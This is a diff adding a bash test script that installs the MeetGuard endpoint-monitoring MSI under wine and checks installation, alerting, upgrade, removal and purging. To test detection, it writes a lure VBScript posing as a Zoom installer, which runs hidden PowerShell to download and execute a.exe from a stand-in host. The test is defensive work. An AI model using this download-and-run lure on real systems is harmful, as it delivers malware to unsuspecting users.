@@ -1,0 +1,102 @@
+#!/bin/bash
+# 20-msi.sh: the MSI under wine: silent installation with both properties, the
+# service runs, a dropped lure is an alert, an upgrade keeps state and
+# configuration, removing leaves them, purging does not. What is typed and seen
+# is kept in build/test-packages/msi.txt.
+#
+# MSI=file.msi takes that package, else the one in dist/packages. What wine cannot
+# show: the rights on folders are not Windows' own there, failure actions are
+# taken and not carried out, and no source of launches but the list of processes
+# works.
+set -euo pipefail
+cd "$(dirname "$0")/../.."
+wine=/usr/lib/wine/wine64
+[ -x "$wine" ] || { echo "20-msi.sh: needs wine64 (apt-get install wine64)" >&2; exit 1; }
+msi=$(realpath "${MSI:-$(ls dist/packages/*.msi)}")
+work=$PWD/build/test-packages log=$PWD/build/test-packages/msi.txt
+export WINEPREFIX=$work/wine WINEDEBUG=-all
+programs=$WINEPREFIX/drive_c/Program\ Files/MeetGuard data=$WINEPREFIX/drive_c/ProgramData/MeetGuard
+token=mgenroll_abcdefghijklmnopqrstuvwxyz234567_abcdefghijklmnopqrstuvwxyz234567 # of no collector
+mkdir -p "$work"
+: >"$log"
+
+say() { printf '\n%s\n' "== $*" | tee -a "$log"; }
+fail() { echo "20-msi.sh: FAILED: $*" >&2; exit 1; }
+typed() { # typed COMMAND… in Windows; keeps what it printed
+  echo "> $*" | tee -a "$log"
+  timeout 120 "$wine" "$@" 2>/dev/null | tr -d '\r' | tee -a "$log" || fail "$1 $2 ended with ${PIPESTATUS[0]}"
+}
+until_ok() { # until_ok SECONDS WHAT COMMAND…
+  local most=$1 what=$2
+  shift 2
+  for _ in $(seq $((most * 5))); do
+    if "$@"; then echo "→ $what" | tee -a "$log"; return; fi
+    sleep 0.2
+  done
+  fail "$what: not within $most s"
+}
+running() { "$wine" sc query meetguard 2>/dev/null | grep -q 'STATE.*4'; }
+told() { grep -qsF "$1" "$data/alerts.jsonl"; }
+gone() { [ ! -e "$programs/meetguard.exe" ]; }
+
+finish() { "${wine%/*}/wineserver64" -k 2>/dev/null || true; }
+trap finish EXIT
+
+rm -rf "$WINEPREFIX"
+"$wine" wineboot -i >/dev/null 2>&1
+# Go asks a library of Windows 10 for random numbers that wine 8 does not have.
+# This one stands in for it, in this test alone.
+cat >"$work/bcp.c" <<'C'
+#include <windows.h>
+BOOLEAN NTAPI SystemFunction036(PVOID, ULONG);
+__declspec(dllexport) BOOL WINAPI ProcessPrng(PBYTE data, SIZE_T size) { return SystemFunction036(data, (ULONG)size); }
+C
+x86_64-w64-mingw32-gcc -shared -O2 -o "$WINEPREFIX/drive_c/windows/system32/bcryptprimitives.dll" "$work/bcp.c" -ladvapi32
+
+say "install"
+typed msiexec /i "Z:${msi//\//\\}" /qn COLLECTOR=https://collector.invalid:8443 TOKEN=$token /l*v 'C:\install.log'
+until_ok 60 "the service is RUNNING" running
+typed sc query meetguard
+typed 'C:\Program Files\MeetGuard\meetguard.exe' version
+tr -d '\r' <"$data/config.yaml" | tee -a "$log"
+grep -q 'collector: https://collector.invalid:8443' "$data/config.yaml" || fail "COLLECTOR did not arrive"
+grep -qx "$token" "$data/enroll.token" || fail "TOKEN did not arrive"
+if iconv -f utf-16le -t utf-8 -c "$WINEPREFIX/drive_c/install.log" 2>/dev/null | grep -q $token || grep -qa $token "$WINEPREFIX/drive_c/install.log" 2>/dev/null; then
+  # wine logs nothing of what Windows hides: told, not failed
+  echo "the token stands in wine's log of the installer" | tee -a "$log"
+fi
+for pid in $(pgrep -f 'MeetGuard.meetguard.exe'); do
+  if tr '\0' ' ' <"/proc/$pid/cmdline" | grep -q $token; then fail "the token is in a command line that stays"; fi
+done
+
+say "a lure"
+downloads=$(find "$WINEPREFIX/drive_c/users" -maxdepth 2 -name Downloads | head -1)
+[ -n "$downloads" ] || fail "wine made no Downloads"
+printf 'Set s = CreateObject("WScript.Shell")\r\n%s s.Run "powershell -w hidden -c iwr https://zoom-sdk-update.invalid/a -outfile a.exe; .\\a.exe", 0\r\n' "' Zoom SDK Update
+" >"$downloads/ZoomInstallerFull.vbs.part"
+mv "$downloads/ZoomInstallerFull.vbs.part" "$downloads/ZoomInstallerFull.vbs"
+until_ok 60 "the lure is an alert" told ZoomInstallerFull.vbs
+typed 'C:\Program Files\MeetGuard\meetguard.exe' alerts list
+
+say "upgrade keeps state and configuration"
+echo '# of the administrator' >>"$data/config.yaml"
+had=$(wc -l <"$data/alerts.jsonl")
+typed msiexec /i "Z:${msi//\//\\}" /qn REINSTALL=ALL REINSTALLMODE=vamus
+until_ok 60 "the service is RUNNING" running
+grep -q 'of the administrator' "$data/config.yaml" || fail "the configuration was replaced"
+[ "$(wc -l <"$data/alerts.jsonl")" -ge "$had" ] || fail "alerts were lost"
+
+say "remove"
+typed msiexec /x "Z:${msi//\//\\}" /qn
+until_ok 30 "the program is gone" gone
+if "$wine" sc query meetguard 2>/dev/null | grep -q 'STATE'; then fail "the service is still there"; fi
+for kept in alerts.jsonl config.yaml; do [ -s "$data/$kept" ] || fail "removing took $kept"; done
+
+say "install and purge"
+typed msiexec /i "Z:${msi//\//\\}" /qn
+until_ok 60 "the service is RUNNING" running
+typed msiexec /x "Z:${msi//\//\\}" /qn PURGE=1
+until_ok 30 "the program is gone" gone
+[ ! -e "$data" ] || fail "purging left $data"
+echo "nothing is left" | tee -a "$log"
+echo "20-msi.sh: passed; transcript in $log"
